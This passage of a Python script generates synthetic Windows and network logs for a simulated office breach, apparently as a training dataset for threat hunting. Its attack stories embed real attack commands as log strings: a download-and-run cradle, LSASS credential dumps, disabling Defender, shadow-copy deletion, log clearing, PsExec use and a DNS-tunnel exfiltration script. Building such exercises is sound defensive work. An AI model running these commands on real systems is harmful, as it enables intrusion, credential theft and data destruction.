    office.service(t, host, "GoogleUpdaterService140.0.7272.0", f'"{GUPDATER}" --system --windows-service --service=update')
    process = office.run(t + 2 * SEC, host.named["services"], GUPDATER,
                         f'"{GUPDATER}" --system --windows-service --service=update', 60)
    office.connect(t + 4 * SEC, process, public_ip("update.googleapis.com"), 443, "update.googleapis.com")
    office.task(t + 5 * SEC, host, "SYSTEM", "0x3e7",
                "\\GoogleSystem\\GoogleUpdater\\GoogleUpdaterTaskSystem140.0.7272.0{2F6C1D8A-4C51-4E0B-9A0C-7B1D2E3F4A5B}",
                GUPDATER, "--wake --system", "Google LLC", "S-1-5-18",
                "<CalendarTrigger><Repetition><Interval>PT1H</Interval></Repetition></CalendarTrigger>")


def workday(office, host, begin, off, rng):
    boot(office, begin, host)
    end = min(off, begin + 13 * HOUR)  # a machine left on overnight has no user in front of it
    begin += 3 * MIN
    explorer = host.named["explorer"]
    chrome = office.start(begin + 5 * MIN, explorer, CHROME, f'"{CHROME}"')
    for n in range(2):
        office.start(begin + 5 * MIN + (n + 1) * 400_000, chrome, CHROME, f'"{CHROME}" --type=renderer --renderer-client-id={n + 5}',
                     level="Low")
    host.named["chrome"] = chrome
    browse(office, host, chrome, begin + 6 * MIN, end, rng)
    background(office, host, host.named["agent"], begin, off, rng)
    office_work(office, host, begin, end, rng)
    management(office, host, begin, rng)
    if host.name == "PC-MORI":  # an administrator opens a console from the desktop
        t = begin + rng.randrange(2 * HOUR, 4 * HOUR)
        office.run(t, explorer, POSH, f'"{POSH}"', 900)
        office.script(t + 20 * SEC, host, "Get-Service -ComputerName FS01 | Where-Object Status -eq 'Stopped'")
    office.event(begin + 50 * MIN, host, "System", 7040, {  # Windows Update switches this service back and forth
        "param1": "Background Intelligent Transfer Service", "param2": "demand start", "param3": "auto start", "param4": "BITS"})
    office.defender(begin + 25 * MIN, host, 2000, Current_Signature_Version="1.437.211.0",
                    Previous_Signature_Version="1.437.198.0", Update_Source="%%859")
    office.defender(begin + 30 * MIN, host, 1150, Platform_version="4.18.25070.5", Engine_version="1.1.25080.5")


def working_hours(user, day):
    """When the user's machine is on (UTC), or None. 20 September is a Saturday."""
    rng = random.Random(f"hours {user} {day}")
    midnight = tokyo_day(day)
    begin, end = midnight + 8 * HOUR + 30 * MIN + rng.randrange(50 * MIN), midnight + 18 * HOUR + rng.randrange(70 * MIN)
    if day == "2025-09-20":
        special = {"j.takeda": (12 * HOUR, 24 * HOUR + 15 * MIN), "m.hayashi": (13 * HOUR, 24 * HOUR + 20 * MIN)}
        if user in special:
            return midnight + special[user][0] + 7 * MIN, midnight + special[user][1]
        if user not in ("h.suzuki", "e.kato", "s.ito", "a.mori", "k.ogawa", "y.sato", "r.tanaka", "c.sasaki"):
            return None
        return begin + HOUR, midnight + 15 * HOUR
    if user == "t.yamada" and day == "2025-09-19":
        return begin, midnight + 34 * HOUR  # never switched off: story 3 happens in this session
    return begin, end


def three_days(office):
    for day in ("2025-09-18", "2025-09-19", "2025-09-20"):
        for user, _ in PEOPLE:
            host, hours = office.hosts[pc(user)], working_hours(user, day)
            if hours is None:
                continue
            rng = random.Random(f"day {user} {day}")
            lease(office, host, *hours)
            workday(office, host, *hours, rng)
            if day == "2025-09-18":
                updater(office, host, hours[0], rng)
        servers_day(office, day)


def lease(office, host, begin, end):
    """Eight-hour leases, renewed at half time as the protocol wants."""
    t, code = begin - 20 * SEC, 10
    while t < end:
        office.leases.append((t, len(office.leases), code, address(host.name, t), host.fqdn, host.mac))
        t, code = t + 4 * HOUR, 11
    if end < begin + 14 * HOUR:
        office.leases.append((end, len(office.leases), 12, address(host.name, begin), host.fqdn, host.mac))


def servers_day(office, day):
    rng, midnight = random.Random("servers " + day), tokyo_day(day)
    for name in SERVERS:
        host = office.hosts[name]
        management(office, host, midnight + 9 * HOUR, rng)
        for n in range(0, 24, 2):
            t = midnight + n * HOUR + rng.randrange(20 * MIN)
            office.connect(t, host.named["agent"], public_ip("checkin.sora-endpoint.example"), 443,
                           "checkin.sora-endpoint.example")
            office.msdns.append((t - SEC, len(office.msdns), SERVERS[name], "checkin.sora-endpoint.example", "A", False))
            other = office.hosts["DC02" if name == "DC01" else "DC01"]
            office.tickets(t + 2 * SEC, other, f"{name}$", SERVERS[name], [f"{other.name}$"])
        office.defender(midnight + 10 * HOUR, host, 1150, Platform_version="4.18.25070.5", Engine_version="1.1.25080.5")
    backup(office, midnight + 3 * HOUR, rng)
    stale_service_account(office, midnight, 8, rng)
    mail_server_dns(office, midnight, rng)
    if day == "2025-09-18":
        for name in SERVERS:
            updater(office, office.hosts[name], midnight + 11 * HOUR, rng)


def backup(office, t, rng):
    """The nightly copy: thousands of files in reality, 260 here, in minutes, on the file server. Not ransomware."""
    fs01 = office.hosts["FS01"]
    session = fs01.session(t, "svc-backup", 0)
    logon_id = office.logon(t, fs01, "svc-backup", 3, SERVERS["BKP01"], "BKP01", logon_id=session.logon_id)
    office.special(t + 1000, fs01, "svc-backup", logon_id)
    copy = office.start(t + 5 * SEC, fs01.named["svchost"], SYS32 + "Robocopy.exe",
                        "robocopy.exe D:\\Shares E:\\Backup\\Shares /MIR /R:1 /W:1 /NP /LOG:E:\\Backup\\nightly.log",
                        session=session, level="High")
    when = t + 8 * SEC
    for _ in range(260):
        office.write(when, copy, f"E:\\Backup\\Shares\\{rng.choice(['Sales', 'HR', 'Design'])}\\{rng.choice(FOLDERS)}\\"
                     f"{rng.choice(STEMS)}-{rng.randrange(100, 999)}.{rng.choice(KINDS)}")
        when += rng.randrange(150_000, 900_000)
    office.stop(when, copy)


def stale_service_account(office, midnight, runs, rng):
    """A job on APP01 still uses an old password: five failures at each run, every day for weeks."""
    for n in range(runs):
        t = midnight + n * 24 * HOUR // runs + 10 * MIN
        for retry in range(5):
            office.logon_failed(t + retry * 20 * SEC + rng.randrange(SEC), office.hosts["DC01"], "svc-scan",
                                SERVERS["APP01"], "APP01")


def mail_server_dns(office, midnight, rng):
    """DNS block lists: hundreds of different names under one domain, nearly all NXDOMAIN."""
    for _ in range(420):
        t = midnight + rng.randrange(DAY)
        ip = [rng.randrange(1, 255) for _ in range(4)]
        zone = rng.choice(["zen.spamhaus.org", "zen.spamhaus.org", "bl.spamcop.net"])
        office.msdns.append((t, len(office.msdns), SERVERS["MAIL01"], ".".join(map(str, ip)) + "." + zone, "A", True))
        if rng.random() < 0.15:
            office.msdns.append((t + 40_000, len(office.msdns), SERVERS["MAIL01"],
                                 f"{rng.choice(STEMS)}{rng.randrange(40)}.example", "MX", rng.random() < 0.2))


def history(office):
    """Thirty thin days before: logons and a little DNS, so that 'new' means something."""
    day = datetime(2025, 8, 19)
    while day < datetime(2025, 9, 18):
        text = day.strftime("%Y-%m-%d")
        midnight, rng = tokyo_day(text), random.Random("history " + text)
        stale_service_account(office, midnight, 2, rng)
        if day.weekday() < 5:
            for user, _ in PEOPLE:
                history_day(office, user, midnight, rng)
        day += timedelta(days=1)


def history_day(office, user, midnight, rng):
    host = office.hosts[pc(user)]
    t = midnight + 8 * HOUR + 40 * MIN + rng.randrange(50 * MIN)
    ip, dc = address(host.name, t), office.hosts[rng.choice(["DC01", "DC02"])]
    if host.name not in NXLOG_HOSTS:  # those hosts' clocks can only be learned while Sysmon is there too
        office.logon(t, host, user, 2, "127.0.0.1", host.name)
    if rng.random() < 0.05:
        office.logon_failed(t - 9 * SEC, dc, user, ip, host.name)
    office.logon(t + SEC, dc, user, 3, ip, "-")
    office.logon(t + rng.randrange(2 * HOUR, 8 * HOUR), dc, user, 3, ip, "-")
    for name in [f"_ldap._tcp.dc._msdcs.{DOMAIN}", "outlook.office365.com", "checkin.sora-endpoint.example",
                 "settings-win.data.microsoft.com", rng.choice(SHARED), SITES[rng.randrange(12)], rng.choice(SITES)]:
        office.query(t + rng.randrange(8 * HOUR), host, name, "SRV" if name[0] == "_" else "A", ttl=60)
    sign_in(office, t + rng.randrange(4 * HOUR), user, home_ip(user), "JP")
    if rng.random() < 0.15:
        remote_work(office, t + 11 * HOUR, user)


CITIES = {"JP": ("Tokyo", "Tokyo", 35.6895, 139.6917), "RU": ("Moscow", "Moskva", 55.7558, 37.6173)}


def sign_in(office, t, user, ip, country, result="0", app="Office 365 Exchange Online"):
    office.cloud.append((t, len(office.cloud), user, ip, country, result, app))


def home_ip(user):
    return f"192.0.2.{100 + [name for name, _ in PEOPLE].index(user)}"


def remote_work(office, t, user, ip=None, place="Japan, Tokyo"):
    """A remote logon to the own machine. The SIEM exports these with the address's location beside the event."""
    office.logon(t, office.hosts[pc(user)], user, 3, ip or home_ip(user), "-", "NTLM", **{LOCATION: place})


def false_friends(office):
    """Single harmless events that look like attacks. The recurring ones are in the functions above."""
    kato = office.hosts["PC-KATO"]  # Defender platform update: off and on again
    t = at("2025-09-19T03:20:11")
    office.defender(t, kato, 5007, Old_Value="HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated = 0x2f1c",
                    New_Value="HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated = 0x2f90")
    office.defender(t + 4 * SEC, kato, 5001)
    office.defender(t + 70 * SEC, kato, 5000)
    suzuki = office.hosts["PC-SUZUKI"]  # a cached script, cleaned at once
    threat = {"Threat_Name": "Trojan:HTML/Phish.XA", "Severity_Name": "Severe", "Category_Name": "Trojan",
              "Detection_User": "TAKEDA\\h.suzuki", "Process_Name": CHROME,
              "Path": "file:_C:\\Users\\h.suzuki\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_0002a1"}
    office.defender(at("2025-09-19T06:02:44"), suzuki, 1116, **threat, Action_Name="Not Applicable")
    office.defender(at("2025-09-19T06:02:58"), suzuki, 1117, **threat, Action_Name="Quarantine",
                    Error_Description="The operation completed successfully. ")
    ito, dc01 = office.hosts["PC-ITO"], office.hosts["DC01"]  # three typing errors, then success
    t = at("2025-09-19T04:12:05")
    for n in range(3):
        office.logon_failed(t + n * 11 * SEC, dc01, "s.ito", address("PC-ITO", t), "PC-ITO")
    office.validated(t + 44 * SEC, dc01, "s.ito", "PC-ITO")
    office.logon(t + 44 * SEC + 3000, dc01, "s.ito", 3, address("PC-ITO", t), "PC-ITO", "NTLM")
    # PC-SATO held 10.0.5.21 the day before the incident and asks for a name with a hash in it
    office.visit(at("2025-09-19T05:08:30"), office.hosts["PC-SATO"], "d9q8zk3vx71m0t.cloudfront.net")
    for day in ("18", "19", "20"):
        sign_in(office, at(f"2025-09-{day}T00:20:00"), "h.suzuki", home_ip("h.suzuki"), "JP", "50126")
        for user, _ in PEOPLE[::2 if day == "20" else 1]:
            sign_in(office, at(f"2025-09-{day}T00:31:00") + int(digest(user + day, 6), 16) % (2 * HOUR), user,
                    home_ip(user), "JP")
    for user in ("r.tanaka", "c.sasaki"):
        remote_work(office, at("2025-09-18T12:30:00"), user)


# ---------------------------------------------------------------------------------------------- attacks

def story_document(office):
    """Story 1, PC-TAKEDA: stolen password, macro document, encoded PowerShell, beacon every 60 s, Run key, discovery,
    protection off, LSASS dump."""
    host, rng = office.hosts["PC-TAKEDA"], random.Random("story 1")
    explorer, user, profile = host.named["explorer"], "j.takeda", "C:\\Users\\j.takeda"
    sign_in(office, at("2025-09-20T10:31:12"), user, home_ip(user), "JP")
    sign_in(office, at("2025-09-20T11:04:39"), user, MOSCOW_IP, "RU", app="Office 365 Exchange Online")
    remote_work(office, at("2025-09-20T11:05:10"), user, MOSCOW_IP, "Russia, Moscow")

    document = f"{profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2QZ81TB\\invoice.docm"
    t = at("2025-09-20T11:06:48.310")
    outlook = host.named["outlook"]
    office.write(t, outlook, document)
    office.sysmon(t + 12_000, host, 15, {
        **office.actor(outlook), "TargetFilename": document + ":Zone.Identifier", "CreationUtcTime": millis(t),
        "Hash": f"SHA256={digest('zone').upper()}", "Contents": "[ZoneTransfer]  ZoneId=3", "User": f"{NETBIOS}\\{user}"})
    word = office.start(at("2025-09-20T11:06:51.120"), outlook, OFFICE16 + "WINWORD.EXE",
                        f'"{OFFICE16}WINWORD.EXE" /n "{document}" /o ""')
    download = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2_NAME}/a')"
    shell = office.start(at("2025-09-20T11:07:30"), word, POSH,
                         f'powershell.exe -NoProfile -EncodedCommand "{encoded(download)}"', folder=f"{profile}\\Documents\\")
    office.script(at("2025-09-20T11:07:31.204"), host, download)
    office.query(at("2025-09-20T11:08:01"), host, C2_NAME, ttl=60, ip=C2_IP)
    office.resolve(at("2025-09-20T11:08:01.020"), shell, C2_NAME, C2_IP)

    t = at("2025-09-20T11:08:05")
    while t < at("2025-09-20T14:20:00"):
        office.connect(t, shell, C2_IP, 443)
        office.visit(t, host, C2_NAME, size=3180 + rng.randrange(40), elapsed=rng.randrange(310, 420), ttl=60, ip=C2_IP,
                     sent=1240 + rng.randrange(12))
        t += 60 * SEC + rng.randrange(-1_500_000, 1_500_000)

    payload = f"{profile}\\AppData\\Roaming\\Microsoft\\wuhelp.ps1"
    office.write(at("2025-09-20T11:09:14.700"), shell, payload)
    office.set_value(at("2025-09-20T11:09:40.250"), shell,
                     f"HKU\\{sid(user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsUpdateHelper",
                     f"powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File {payload}")
    for n, command in enumerate(["whoami /all", "nltest /dclist:" + DOMAIN, "nltest /domain_trusts",
                                 'net group "domain admins" /domain', "ipconfig /all", "systeminfo", "quser"]):
        t = at("2025-09-20T11:12:05") + n * 9 * SEC
        cmd = office.start(t, shell, SYS32 + "cmd.exe", f"cmd.exe /c {command}")
        tool = command.split()[0] + ".exe"
        office.run(t + 60_000, cmd, SYS32 + tool, command, 1)
        office.stop(t + 1_200_000, cmd)
    off = "Set-MpPreference -DisableRealtimeMonitoring $true"
    office.run(at("2025-09-20T11:21:10"), shell, POSH, f"powershell.exe -NoProfile -Command {off}", 4)
    office.script(at("2025-09-20T11:21:10.900"), host, off)
    office.defender(at("2025-09-20T11:21:12"), host, 5001)
    dump_lsass_with_comsvcs(office, host, shell, at("2025-09-20T11:24:40"))
    office.stop(at("2025-09-20T14:21:30"), shell)
    office.stop(at("2025-09-20T14:22:00"), word)


def story_ransomware(office):
    """Story 2: spray from PC-HAYASHI; PsExec to APP01: protection off, shadow copies gone, log cleared; PsExec to FS01:
    files encrypted."""
    spray(office)
    app01, fs01 = office.hosts["APP01"], office.hosts["FS01"]
    psexec(office, app01, at("2025-09-20T13:20:04"))
    blind(office, app01)
    logon_id = psexec(office, fs01, at("2025-09-20T13:27:04"))
    encrypt(office, logon_id)
    office.run(at("2025-09-20T13:36:20"), app01.named["shell"], SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", 1)
    office.event(at("2025-09-20T13:36:20.600"), app01, "Security", 1102, {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
        "SubjectLogonId": "0x3e7"}, EVENTLOG)


def spray(office):
    source, dc01, rng = office.hosts["PC-HAYASHI"], office.hosts["DC01"], random.Random("spray")
    ip, explorer = "10.0.5.66", source.named["explorer"]
    tool = office.start(at("2025-09-20T13:01:40"), explorer, "C:\\Users\\Public\\nxc.exe",
                        "nxc.exe smb 10.0.1.10 -u C:\\Users\\Public\\u.txt -p Aki2025! --continue-on-success",
                        folder="C:\\Users\\Public\\")
    t = at("2025-09-20T13:02:00")
    for user in [user for user, _ in PEOPLE] + BRANCH_USERS:
        office.connect(t - 30_000, tool, SERVERS["DC01"], 445)
        office.logon_failed(t, dc01, user, ip, "PC-HAYASHI")
        t += rng.randrange(2_800_000, 4_200_000)
    for _ in range(6):  # then one account in earnest
        office.logon_failed(t, dc01, "k.ogawa", ip, "PC-HAYASHI")
        t += 5 * SEC
    office.validated(t, dc01, "k.ogawa", "PC-HAYASHI")
    logon_id = office.logon(t + 4000, dc01, "k.ogawa", 3, ip, "PC-HAYASHI", "NTLM")
    office.special(t + 5000, dc01, "k.ogawa", logon_id)
    office.stop(t + 20 * SEC, tool)


def psexec(office, target, t):
    source, ip, name = office.hosts["PC-HAYASHI"], "10.0.5.66", target.name
    tool = office.start(t, source.named["explorer"], "C:\\Users\\Public\\PsExec64.exe",
                        f"PsExec64.exe \\\\{name} -accepteula -u TAKEDA\\k.ogawa -p ******** -s cmd.exe",
                        folder="C:\\Users\\Public\\")
    office.event(t + 300_000, source, "Security", 4648, {
        "SubjectUserSid": sid("m.hayashi"), "SubjectUserName": "m.hayashi", "SubjectDomainName": NETBIOS,
        "SubjectLogonId": tool.session.logon_id, "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": "k.ogawa", "TargetDomainName": NETBIOS, "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetServerName": f"{name}.{DOMAIN}", "TargetInfo": f"{name}.{DOMAIN}", "ProcessId": hex(tool.pid),
        "ProcessName": tool.image, "IpAddress": SERVERS[name], "IpPort": "445"})
    office.connect(t + 350_000, tool, SERVERS[name], 445, f"{name}.{DOMAIN}")
    logon_id = office.logon(t + 400_000, target, "k.ogawa", 3, ip, "PC-HAYASHI", "NTLM")
    office.special(t + 401_000, target, "k.ogawa", logon_id)
    office.share(t + 450_000, target, "k.ogawa", logon_id, ip, "ADMIN$")
    office.share(t + 480_000, target, "k.ogawa", logon_id, ip, "ADMIN$", "PSEXESVC.exe", "0x2", "%%4417\n\t\t\t\t")
    office.write(t + 500_000, target.named["system"], "C:\\Windows\\PSEXESVC.exe")
    office.share(t + 620_000, target, "k.ogawa", logon_id, ip, "IPC$", "svcctl", "0x12019f",
                 "%%1538\n\t\t\t\t%%4416\n\t\t\t\t%%4417\n\t\t\t\t")
    office.service(t + 700_000, target, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", start="demand start")
    office.event(t + 705_000, target, "Security", 4697, {
        "SubjectUserSid": sid("k.ogawa"), "SubjectUserName": "k.ogawa", "SubjectDomainName": NETBIOS,
        "SubjectLogonId": logon_id, "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})
    service = office.start(t + 800_000, target.named["services"], "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe")
    target.named["shell"] = office.start(t + 1_100_000, service, SYS32 + "cmd.exe", '"cmd.exe"')
    return logon_id


def blind(office, target):
    shell = target.named["shell"]
    off = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"
    t = at("2025-09-20T13:22:10")
    office.run(t, shell, POSH, f"powershell.exe -NoProfile -Command {off}", 4)
    office.script(t + 900_000, target, off)
    key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring"
    office.defender(t + 2 * SEC, target, 5007, Old_Value=f"{key} = 0x0", New_Value=f"{key} = 0x1")
    office.defender(t + 2 * SEC + 40_000, target, 5001)
    for n, command in enumerate(["net stop VSS /y", "net stop SQLWriter /y", "net stop MSSQLSERVER /y", "net stop veeambackup /y",
                                 "net stop BackupExecAgent /y", "net stop wbengine /y", "net stop swprv /y", "net stop SQLBrowser /y",
                                 "net stop sophossps /y", "net stop MSExchangeIS /y"]):
        office.run(at("2025-09-20T13:23:00") + n * 4 * SEC, shell, SYS32 + "net.exe", command, 1)
    office.run(at("2025-09-20T13:24:02"), shell, SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", 3)
    office.run(at("2025-09-20T13:24:09"), shell, SYS32 + "wbem\\WMIC.exe", "wmic.exe shadowcopy delete", 3)
    office.run(at("2025-09-20T13:24:15"), shell, SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no", 1)


def encrypt(office, logon_id):
    fs01, rng = office.hosts["FS01"], random.Random("encrypt")
    shell = fs01.named["shell"]
    t = at("2025-09-20T13:29:30")
    office.write(t, fs01.named["system"], "C:\\ProgramData\\lk.exe")
    office.share(t - 20_000, fs01, "k.ogawa", logon_id, "10.0.5.66", "C$", "ProgramData\\lk.exe", "0x2",
                 "%%4417\n\t\t\t\t")
    locker = office.start(at("2025-09-20T13:30:00"), shell, "C:\\ProgramData\\lk.exe", "lk.exe -p D:\\Shares -n README_RESTORE.txt",
                          folder="C:\\ProgramData\\")
    folders = [f"D:\\Shares\\{share}\\{folder}" for share in ("Sales", "Design", "HR") for folder in FOLDERS]
    t = at("2025-09-20T13:30:02")
    for folder in folders:
        office.write(t, locker, f"{folder}\\README_RESTORE.txt")
        for n in range(11):
            path = f"{folder}\\{STEMS[n % 10]}-{rng.randrange(100, 999)}.{KINDS[(n * 3) % 8]}"
            office.write(t + 20_000, locker, path + ".takelock")
            office.delete(t + 45_000, locker, path)
            t += rng.randrange(90_000, 240_000)
    # from the workstation over SMB as well: the file server's own audit sees this part
    t = at("2025-09-20T13:31:00")
    for folder in FOLDERS + ["Payroll", "Recruiting", "Reviews", "Training"]:
        for n in range(10):
            path = f"{folder}\\{STEMS[n]}-{rng.randrange(100, 999)}.{KINDS[n % 8]}"
            office.share(t, fs01, "k.ogawa", logon_id, "10.0.5.66", "HR", path + ".takelock", "0x2", "%%4417\n\t\t\t\t")
            office.share(t + 30_000, fs01, "k.ogawa", logon_id, "10.0.5.66", "HR", path, "0x10000", "%%1537\n\t\t\t\t")
            t += rng.randrange(200_000, 450_000)
        office.share(t, fs01, "k.ogawa", logon_id, "10.0.5.66", "HR", f"{folder}\\README_RESTORE.txt", "0x2", "%%4417\n\t\t\t\t")
    office.stop(at("2025-09-20T13:33:00"), locker)


def story_insider(office):
    """Story 3, PC-YAMADA, 02:00 to 04:30 local: AnyDesk from Downloads, encoded task, LSASS dumps, DNS tunnel."""
    host, user = office.hosts["PC-YAMADA"], "t.yamada"
    explorer, downloads = host.named["explorer"], "C:\\Users\\t.yamada\\Downloads"
    office.event(at("2025-09-19T16:52:10"), host, "Security", 4801, {
        "TargetUserSid": sid(user), "TargetUserName": user, "TargetDomainName": NETBIOS,
        "TargetLogonId": explorer.session.logon_id, "SessionId": "1"})
    anydesk = remote_tool(office, host, explorer, downloads)
    admin = host.session(at("2025-09-19T17:10:00"), user, 1)
    office.logon(at("2025-09-19T17:10:00"), host, user, 2, "127.0.0.1", host.name, logon_id=admin.logon_id)
    office.special(at("2025-09-19T17:10:00.002"), host, user, admin.logon_id)
    shell = office.start(at("2025-09-19T17:10:05"), anydesk, SYS32 + "cmd.exe", '"cmd.exe"', session=admin, level="High")

    tunnel = ("$d='kx-statsync.top';Get-ChildItem C:\\Users\\Public\\out.zip|%{$b=[IO.File]::ReadAllBytes($_);"
              "for($i=0;$i -lt $b.Length;$i+=33){Resolve-DnsName -Type TXT ((B32 $b[$i..($i+32)])+'.'+$d);Start-Sleep 6}}")
    arguments = f"-NoProfile -WindowStyle Hidden -EncodedCommand {encoded(tunnel)}"
    name = "\\Microsoft\\Windows\\Shell\\SyncHostTask"
    t = at("2025-09-19T17:20:30")
    office.run(t, shell, SYS32 + "schtasks.exe",
               f'schtasks /create /tn "{name}" /tr "powershell.exe {arguments}" /sc once /st 03:00 /ru SYSTEM /rl HIGHEST /f', 1)
    office.task(t + 300_000, host, user, admin.logon_id, name, "powershell.exe", arguments, "TAKEDA\\t.yamada", "S-1-5-18",
                "<TimeTrigger><StartBoundary>2025-09-20T03:00:00</StartBoundary></TimeTrigger>")
    dump_lsass_with_procdump(office, host, shell, downloads)
    dns_tunnel(office, host, arguments, tunnel)


def remote_tool(office, host, explorer, downloads):
    t, path = at("2025-09-19T17:00:12"), f"{downloads}\\AnyDesk.exe"
    office.visit(t - 70 * SEC, host, "download.anydesk.com", size=5_610_000, elapsed=4100)
    office.write(t - 60 * SEC, host.named["chrome"], path)
    office.run(t - 5 * SEC, host.named["svchost"], SYS32 + "consent.exe", "consent.exe 5120 288 000001E0B3C04A10", 4)
    installer = office.start(t, explorer, path, f'"{path}" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
                             level="High", folder=downloads + "\\")
    office.service(t + 6 * SEC, host, "AnyDesk Service", '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service')
    service = office.start(t + 7 * SEC, host.named["services"], "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
                           '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service')
    for n, name in enumerate(("boot.net.anydesk.com", "relay-7f3a2c1b.net.anydesk.com", "relay-0be94d55.net.anydesk.com")):
        when = t + (9 + 3 * n) * SEC
        office.visit(when, host, name, size=61_000 + 1000 * n, elapsed=9_000_000 if n else 900)
        office.resolve(when + 10_000, service, name, public_ip(name))
        office.connect(when + 60_000, service, public_ip(name), 443, name)
    office.stop(t + 20 * SEC, installer)
    return service


NTDLL_TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c03e|"


def dump_lsass_with_comsvcs(office, host, shell, t):
    lsass = host.named["lsass"]
    tool = office.start(t, shell, SYS32 + "rundll32.exe",
                        f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} C:\\Users\\Public\\d.dmp full")
    office.open_process(t + 120_000, tool, lsass, "0x1410",
                        NTDLL_TRACE + "C:\\Windows\\System32\\comsvcs.dll+25a0|C:\\Windows\\SYSTEM32\\dbghelp.dll+41b20|" +
                        "C:\\Windows\\System32\\rundll32.exe+3cd1")
    office.write(t + 400_000, tool, "C:\\Users\\Public\\d.dmp")
    office.stop(t + 2 * SEC, tool)


def dump_lsass_with_procdump(office, host, shell, downloads):
    lsass = host.named["lsass"]
    t = at("2025-09-19T17:31:04")
    tool = office.start(t, shell, f"{downloads}\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp",
                        folder=downloads + "\\")
    office.open_process(t + 150_000, tool, lsass, "0x1fffff",
                        NTDLL_TRACE + "C:\\Windows\\SYSTEM32\\dbghelp.dll+3f0c1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6a1e|" +
                        f"{downloads}\\procdump64.exe+1b7e3")
    office.write(t + 300_000, tool, "C:\\Users\\Public\\ls.dmp")
    office.stop(t + 3 * SEC, tool)


def dns_tunnel(office, host, arguments, tunnel):
    rng, t = random.Random("tunnel"), at("2025-09-19T18:00:00")
    shell = office.start(t, host.named["svchost"], POSH, f"powershell.exe {arguments}", session=host.system, level="System")
    office.script(t + 700_000, host, tunnel)
    for _ in range(600):
        label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(rng.randrange(50, 58)))
        name = f"{label}.kx-statsync.top"
        office.query(t + 2 * SEC, host, name, "TXT", ip="-")
        office.resolve(t + 2 * SEC + 15_000, shell, name, None)
        t += rng.randrange(5_400_000, 6_300_000)
    office.stop(t + MIN, shell)


# ---------------------------------------------------------------------------------------------- writers

class Writer:
    """Writes files into `root`; a name that ends in .gz is compressed without a time stamp, for equal bytes."""

    def __init__(self, root):
        self.root, self.written = root, set()

    def put(self, name, text):
        path = self.root / name
        self.written.add(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        data = text.encode()
        if name.endswith(".gz"):
            with open(path, "wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as packed:
                packed.write(data)
        else:
            path.write_bytes(data)

    def lines(self, name, rows):
        self.put(name, "".join(row + "\n" for row in rows))


def compact(value):
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


TASKS = {1: "Process Create (rule: ProcessCreate)", 3: "Network connection detected (rule: NetworkConnect)",
         5: "Process terminated (rule: ProcessTerminate)", 10: "Process accessed (rule: ProcessAccess)",
         11: "File created (rule: FileCreate)", 13: "Registry value set (rule: RegistryEvent)",
         15: "File stream created (rule: FileCreateStreamHash)", 22: "Dns query (rule: DnsQuery)",
         23: "File Delete archived (rule: FileDelete)", 4624: "Logon", 4625: "Logon", 4648: "Logon", 4672: "Special Logon",
         4634: "Logoff", 4697: "Security System Extension", 4698: "Other Object Access Events", 5140: "File Share",
         5145: "Detailed File Share", 1102: "Log clear", 4768: "Kerberos Authentication Service",
         4769: "Kerberos Service Ticket Operations", 4776: "Credential Validation", 4801: "Other Logon/Logoff Events",
         4104: "Creating Scriptblock text (1 of 1):", 7045: "A service was installed in the system",
         7040: "The start type of a service was changed"}
TASK_IDS = {4624: 12544, 4625: 12544, 4634: 12545, 4648: 12544, 4672: 12548, 4768: 14339, 4769: 14337, 4776: 14336,
            4697: 12289, 4698: 12804, 5140: 12808, 5145: 12811, 1102: 104, 4801: 12551, 4104: 2, 7045: 0}
VERSIONS = {1: 5, 3: 5, 5: 3, 10: 3, 11: 2, 13: 2, 15: 2, 22: 5, 23: 5, 4624: 2, 4698: 1, 5140: 1}


def numbered(office):
    """All Windows events by time, each with its record id: (t, host, channel, id, data, provider, record id)."""
    counters, rows = {}, []
    for t, _, host, channel, event_id, data, provider in sorted(office.events, key=lambda e: e[:2]):
        key = (host.name, channel)
        counters[key] = counters.get(key, 10_000 + int(digest(host.name + channel, 4), 16)) + 1
        rows.append((t, host, channel, event_id, data, provider or PROVIDERS[channel][0], counters[key]))
    return rows


def provider_guid(channel, provider):
    return "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148" if provider == EVENTLOG else PROVIDERS[channel][1]


def failed(event_id, data):
    return event_id == 4625 or (event_id == 4776 and data["Status"] != "0x0")


def winlogbeat(row):
    t, host, channel, event_id, data, provider, record = row
    security = channel == "Security"
    data = dict(data)
    location = {"location": data.pop(LOCATION)} if LOCATION in data else {}
    return {
